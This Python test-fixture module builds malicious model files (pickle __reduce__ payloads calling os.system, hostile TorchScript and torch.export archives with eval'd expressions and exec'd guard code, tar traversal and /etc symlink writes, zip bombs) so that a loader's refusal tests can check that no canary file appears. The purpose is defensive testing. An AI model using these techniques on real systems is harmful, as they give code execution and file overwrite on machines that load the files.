"""A corpus of malicious model files, for the refusal tests (fault-suite rows 7 and 8).

Each builder writes one hostile artifact. The code-execution ones carry a payload that creates a
*canary* file when it runs, so a test can prove nothing ran: the canary is absent after the
refusal. ``tests/unit/test_malicious_corpus.py`` also runs the payloads on purpose, in a child
process, to show they are live (a refusal of a dud would prove nothing).
"""

from __future__ import annotations

import builtins
import io
import json
import os
import pickle
import stat
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import onnx
import torch
from onnx import TensorProto, helper

TORCHSCRIPT_ROOT = "model"
BENIGN_TORCHSCRIPT_CODE = """\
class Model(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.Model,
    input: Tensor) -> Tensor:
    return input
"""


class _OpensCanary:
    """Unpickling this calls ``open(canary, "w")``: the file appears if the pickle ran."""

    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self) -> tuple[Any, ...]:
        return (builtins.open, (self.canary, "w"))


class _RunsShell:
    """Unpickling this runs ``touch <canary>`` through ``os.system``."""

    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch '{self.canary}'",))


def reduce_pickle(canary: Path, protocol: int = 2, shell: bool = False) -> bytes:
    """A pickle whose ``__reduce__`` creates ``canary`` (protocol 2: GLOBAL; 4+: STACK_GLOBAL)."""
    payload = _RunsShell(canary) if shell else _OpensCanary(canary)
    return pickle.dumps({"state_dict": payload}, protocol=protocol)


def write_raw_pickle(path: Path, canary: Path) -> Path:
    """A ``.pt`` that is a bare pickle, as ``pickle.dump`` or legacy ``torch.save`` writes."""
    path.write_bytes(reduce_pickle(canary))
    return path


def write_torchscript_shaped(path: Path, data_pkl: bytes, code: str = BENIGN_TORCHSCRIPT_CODE) -> Path:
    """A zip laid out exactly like ``torch.jit.save`` output, with ``data.pkl`` replaced."""
    root = TORCHSCRIPT_ROOT
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{root}/data.pkl", data_pkl)
        archive.writestr(f"{root}/code/__torch__.py", code)
        archive.writestr(f"{root}/constants.pkl", pickle.dumps((), protocol=2))
        archive.writestr(f"{root}/version", "3\n")
        archive.writestr(f"{root}/byteorder", "little")
    return path


def write_malicious_torchscript(path: Path, canary: Path, protocol: int = 2) -> Path:
    """The ``__reduce__`` pickle inside a TorchScript-shaped zip."""
    return write_torchscript_shaped(path, reduce_pickle(canary, protocol=protocol))


def write_prefixed_torchscript(path: Path, canary: Path, prefix: bytes | None = None) -> Path:
    """Bytes before a valid TorchScript-shaped zip (zip readers locate the directory from the end):
    by default the ``__reduce__`` pickle, a pickle/zip polyglot."""
    write_torchscript_shaped(path, pickle.dumps((), protocol=2))
    path.write_bytes((reduce_pickle(canary) if prefix is None else prefix) + path.read_bytes())
    return path


def write_torch_save_checkpoint(path: Path, canary: Path) -> Path:
    """An eager ``torch.save``-style zip (``archive/data.pkl``, no ``code/``) carrying the payload."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", reduce_pickle(canary))
        archive.writestr("archive/version", "3\n")
    return path


class FromFileModule(torch.nn.Module):
    """Genuine TorchScript whose ``__setstate__`` runs during ``torch.jit.load`` and calls
    ``torch.from_file(target, shared=True)``, an operator that creates the file at ``target``."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target
        self.weights = torch.zeros(1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.weights

    @torch.jit.export
    def __getstate__(self) -> list[str]:
        return [self.target]

    @torch.jit.export
    def __setstate__(self, state: list[str]) -> None:
        self.target = state[0]
        self.training = False
        self.weights = torch.from_file(self.target, True, 16, dtype=torch.uint8).float()


def write_from_file_torchscript(path: Path, canary: Path) -> Path:
    """The module above, scripted and saved: loading it creates ``canary``."""
    script = torch.jit.script(FromFileModule(str(canary)))
    script.save(str(path))  # type: ignore[no-untyped-call]
    return path


# --------------------------------------------------------------------------------------------
# ONNX with hostile external data
# --------------------------------------------------------------------------------------------


def write_onnx_external(directory: Path, location: str) -> Path:
    """``y = x + W`` where W (4 floats) is external data at ``location``."""
    directory.mkdir(parents=True, exist_ok=True)
    weights = helper.make_tensor("W", TensorProto.FLOAT, [4], [0.0, 0.0, 0.0, 0.0])
    weights.ClearField("float_data")
    weights.data_location = TensorProto.EXTERNAL
    for key, value in {"location": location, "offset": "0", "length": "16"}.items():
        entry = weights.external_data.add()
        entry.key, entry.value = key, value
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    graph = helper.make_graph([helper.make_node("Add", ["x", "W"], ["y"])], "add", [x], [y], [weights])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)
    path = directory / "model.onnx"
    onnx.save(model, str(path))
    return path


# --------------------------------------------------------------------------------------------
# Archives
# --------------------------------------------------------------------------------------------


def _tar_member(archive: tarfile.TarFile, name: str, data: bytes = b"x") -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    archive.addfile(info, io.BytesIO(data))


def write_tar(path: Path, build: Any, compressed: bool = False) -> Path:
    with tarfile.open(path, "w:gz" if compressed else "w", format=tarfile.PAX_FORMAT) as archive:
        build(archive)
    return path


def write_tar_traversal(path: Path, name: str = "../escaped.txt") -> Path:
    def build(archive: tarfile.TarFile) -> None:
        _tar_member(archive, "model.onnx")
        _tar_member(archive, name, b"pwned")

    return write_tar(path, build)


def write_tar_link(
    path: Path, target: str = "/etc", kind: bytes = tarfile.SYMTYPE, name: str = "etc"
) -> Path:
    """A tar with a link member (``/etc`` symlink by default), then a file written through it."""

    def build(archive: tarfile.TarFile) -> None:
        link = tarfile.TarInfo(name)
        link.type = kind
        link.linkname = target
        archive.addfile(link)
        _tar_member(archive, f"{name}/cron.d/evil" if kind == tarfile.SYMTYPE else "other", b"pwned")

    return write_tar(path, build)


def write_tar_device(path: Path) -> Path:
    def build(archive: tarfile.TarFile) -> None:
        device = tarfile.TarInfo("dev-null")
        device.type = tarfile.CHRTYPE
        device.devmajor, device.devminor = 1, 3
        archive.addfile(device)

    return write_tar(path, build)


def write_tar_gz_bomb(path: Path, uncompressed_bytes: int) -> Path:
    """One member of zeros: a tiny .tar.gz that decompresses to ``uncompressed_bytes``."""

    def build(archive: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("zeros.bin")
        info.size = uncompressed_bytes
        archive.addfile(info, _Zeros(uncompressed_bytes))

    return write_tar(path, build, compressed=True)


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def readinto(self, buffer: Any) -> int:
        count = min(len(buffer), self.left)
        buffer[:count] = bytes(count)
        self.left -= count
        return count

    def readable(self) -> bool:
        return True


def write_tar_many_members(path: Path, count: int) -> Path:
    def build(archive: tarfile.TarFile) -> None:
        for index in range(count):
            _tar_member(archive, f"f{index}.bin")

    return write_tar(path, build)


def write_zip(path: Path, members: dict[str, bytes], symlinks: dict[str, str] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3  # unix, so external_attr carries the file type
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return path


def write_zip_bomb(path: Path, uncompressed_bytes: int) -> Path:
    """A single deflated member of zeros (about 1000x compression)."""
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as out,
    ):
        for _ in range(uncompressed_bytes // len(chunk)):
            out.write(chunk)
    return path


def write_overlapping_zip(path: Path) -> Path:
    """Two central-directory entries sharing one local entry (Fifield's overlapping zip bomb)."""
    write_zip(path, {"a.bin": bytes(4096), "b.bin": bytes(4096)})
    data = bytearray(path.read_bytes())
    central = [i for i in range(len(data)) if data[i : i + 4] == b"PK\x01\x02"]
    offset_field = central[1] + 42
    data[offset_field : offset_field + 4] = struct.pack("<I", 0)
    path.write_bytes(bytes(data))
    return path


def write_zip_lying_size(path: Path) -> Path:
    """A member whose headers declare 10 bytes but whose data inflates to 1 MiB."""
    write_zip(path, {"weights.bin": bytes(1024 * 1024)})
    data = bytearray(path.read_bytes())
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    data[local + 22 : local + 26] = struct.pack("<I", 10)
    data[central + 24 : central + 28] = struct.pack("<I", 10)
    path.write_bytes(bytes(data))
    return path


# --------------------------------------------------------------------------------------------
# torch.export archives (.pt2)
# --------------------------------------------------------------------------------------------


class _AddWeight(torch.nn.Module):
    """``x + w``: one weight payload, a dynamic batch (so the program has a symbolic expression)."""

    def __init__(self) -> None:
        super().__init__()
        self.weight = torch.nn.Parameter(torch.zeros(4))

    def forward(self, input: torch.Tensor) -> torch.Tensor:
        return input + self.weight


def write_torch_export(path: Path) -> Path:
    """A genuine ``torch.export.save`` archive of ``x + w`` (input ``input``, FP32[-1, 4])."""
    batch = torch.export.Dim("batch", min=1, max=1024)
    program = torch.export.export(_AddWeight(), (torch.zeros(2, 4),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    return path


def rewrite_pt2(path: Path, changes: dict[str, bytes | None]) -> Path:
    """Rewrite a ``.pt2`` in place: each relative name maps to new bytes (added or replaced) or
    None (removed); members stay stored, as torch writes them."""
    with zipfile.ZipFile(path) as source:
        root = source.namelist()[0].split("/", 1)[0]
        members = {info.filename: source.read(info) for info in source.infolist()}
    for name, data in changes.items():
        if data is None:
            members.pop(f"{root}/{name}", None)
        else:
            members[f"{root}/{name}"] = data
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as target:
        for name, data in members.items():
            target.writestr(zipfile.ZipInfo(name), data)
    return path


def torch_save_zip(data_pkl: bytes) -> bytes:
    """A ``torch.save``-shaped zip around ``data_pkl`` (what ``torch.load`` reads)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def write_torch_export_evil_sample_inputs(path: Path, canary: Path) -> Path:
    """The sample inputs replaced by an ``os.system`` pickle: ``torch.export.load`` tries
    ``weights_only=True``, fails, and falls back to ``weights_only=False``, which runs it."""
    write_torch_export(path)
    evil = torch_save_zip(reduce_pickle(canary, shell=True))
    return rewrite_pt2(path, {"data/sample_inputs/model.pt": evil})


def write_torch_export_pickled_weight(path: Path, canary: Path) -> Path:
    """The weight marked ``use_pickle``: ``torch.export.load`` reads it with
    ``torch.load(weights_only=False)``."""
    write_torch_export(path)
    with zipfile.ZipFile(path) as source:
        name = next(n for n in source.namelist() if n.endswith("model_weights_config.json"))
        config = json.loads(source.read(name))
    for meta in config["config"].values():
        meta["use_pickle"] = True
        path_name = meta["path_name"]
    evil = torch_save_zip(reduce_pickle(canary, shell=True))
    changes = {"data/weights/model_weights_config.json": json.dumps(config).encode()}
    return rewrite_pt2(path, {**changes, f"data/weights/{path_name}": evil})


def write_torch_export_opaque_constant(path: Path, canary: Path) -> Path:
    """An ``opaque_obj_0`` constant: ``torch.export.load`` hands it to ``pickle.loads``."""
    write_torch_export(path)
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    config = {"config": {"evil": entry}}
    return rewrite_pt2(
        path,
        {
            "data/constants/model_constants_config.json": json.dumps(config).encode(),
            "data/constants/opaque_obj_0": reduce_pickle(canary, shell=True),
        },
    )


def write_torch_export_sympy_eval(path: Path, canary: Path) -> Path:
    """A symbolic shape expression that is Python: torch's deserializer ``sympify``s (evals) it."""
    write_torch_export(path)
    with zipfile.ZipFile(path) as source:
        name = next(n for n in source.namelist() if n.endswith("models/model.json"))
        text = source.read(name).decode()
    program = json.loads(text)
    payload = f"__import__('os').system('touch {canary}')"
    sizes = program["graph_module"]["graph"]["tensor_values"]["input"]["sizes"]
    sizes[0]["as_expr"]["expr_str"] = payload
    return rewrite_pt2(path, {"models/model.json": json.dumps(program).encode()})


def write_torch_export_legacy(path: Path, canary: Path) -> Path:
    """The torch 2.7 layout (``serialized_*``): its state dict is a pickle loaded with weights_only=False."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("version", "8.0")
        archive.writestr("serialized_exported_program.json", "{}")
        archive.writestr("serialized_state_dict.pt", torch_save_zip(reduce_pickle(canary, shell=True)))
        archive.writestr("serialized_constants.pt", b"")
        archive.writestr("serialized_example_inputs.pt", b"")
    return path


def write_torch_export_legacy_weights(path: Path, canary: Path) -> Path:
    """A pt2 with the torch < 2.8 weights file ``data/weights/model.pt`` (a pickle)."""
    write_torch_export(path)
    return rewrite_pt2(path, {"data/weights/model.pt": torch_save_zip(reduce_pickle(canary, shell=True))})


def write_torch_export_traversal(path: Path, name: str = "../../escaped.txt") -> Path:
    """A genuine archive plus a member named ``<root>/../../escaped.txt``."""
    write_torch_export(path)
    return rewrite_pt2(path, {name: b"pwned"})


def write_torch_export_oversized(path: Path, size: int = 2 * 1024 * 1024) -> Path:
    """A genuine archive plus an ``extra/`` file over the 1 MiB cap."""
    write_torch_export(path)
    return rewrite_pt2(path, {"extra/notes.txt": b"a" * size})


def write_torch_export_aoti(path: Path) -> Path:
    """A genuine archive plus an AOTInductor shared library (native code torch would dlopen)."""
    write_torch_export(path)
    return rewrite_pt2(path, {"data/aotinductor/model/model.so": b"\x7fELF" + bytes(60)})


def write_torch_export_file_op(path: Path, canary: Path) -> Path:
    """The program's add replaced by ``torch.save``, called at inference with the canary path."""
    write_torch_export(path)
    with zipfile.ZipFile(path) as source:
        name = next(n for n in source.namelist() if n.endswith("models/model.json"))
        program = json.loads(source.read(name))
    node = program["graph_module"]["graph"]["nodes"][0]
    node["target"] = "torch.save"
    node["inputs"][1] = {"name": "f", "arg": {"as_string": str(canary)}, "kind": 1}
    return rewrite_pt2(path, {"models/model.json": json.dumps(program).encode()})


def write_torch_export_guards_code(path: Path, canary: Path) -> Path:
    """``guards_code`` that ``ExportedProgram.module()`` would exec when it has example inputs."""
    write_torch_export(path)
    with zipfile.ZipFile(path) as source:
        name = next(n for n in source.namelist() if n.endswith("models/model.json"))
        program = json.loads(source.read(name))
    program["guards_code"] = [f"__import__('os').system('touch {canary}') == 0"]
    return rewrite_pt2(path, {"models/model.json": json.dumps(program).encode()})
